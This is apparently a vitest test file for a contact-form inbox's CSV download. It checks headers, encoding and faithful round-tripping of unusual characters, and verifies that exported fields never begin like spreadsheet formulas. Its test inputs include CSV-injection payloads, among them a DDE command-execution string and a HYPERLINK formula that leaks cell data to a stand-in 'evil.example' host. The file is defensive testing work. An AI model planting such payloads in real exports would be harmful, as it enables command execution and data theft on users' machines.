import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formsWith } from '../setup/attacked-forms.ts';
import { startStack, submission, type Stack } from '../setup/stack.ts';

/** What spreadsheets treat as the start of a formula. */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

let stack: Stack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack.stop());

const store = async (changes: Record<string, unknown>) => {
  const row = submission(changes);
  expect((await stack.visitor().from('contact_submissions').insert(row)).error).toBeNull();
  return String(row['id']);
};
const download = () => fetch(`${stack.backend.deskUrl}/inbox.csv`);
/** The table, as an independent parser reads it. */
const rows = async () => parse<Record<string, string>>(await (await download()).text(), { bom: true, columns: true });

describe('the inbox as a CSV file', () => {
  it('is linked from the inbox, and downloads as UTF-8 that spreadsheets recognize', async () => {
    expect(await (await fetch(`${stack.backend.deskUrl}/inbox`)).text()).toContain('href="/inbox.csv"');
    const response = await download();
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="inbox.csv"');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect([...new Uint8Array(await response.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has every request as it was typed, whatever characters are in it', async () => {
    const message = 'One, "two"; three\r\nfour\n\n"" 🦊 Zürich \' \\ ,,,';
    const id = await store({ name: 'O’Neil, "Bo"', message });
    const row = (await rows()).find((found) => found['id'] === id);
    expect(row).toMatchObject({
      name: 'O’Neil, "Bo"',
      message,
      kind: 'contact_submissions',
      notified_at: '',
      tries: '0',
    });
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=2',
    '\r=3',
    '＝1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1)',
  ])('has no formula in any field: %j', async (formula) => {
    for (const { table, row } of formsWith(formula)) {
      // An address may begin like a formula, too.
      const email = `=1+1.${String(row['email'])}`;
      expect(
        (
          await stack
            .visitor()
            .from(table)
            .insert({ ...row, email })
        ).error,
        table,
      ).toBeNull();
    }
    const found = await rows();
    expect(
      found.filter(
        ({ name }) => name?.startsWith("'") && name.replaceAll("'", '') === formula.trim().replaceAll("'", ''),
      ),
    ).toHaveLength(5);
    for (const row of found) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
  });
});
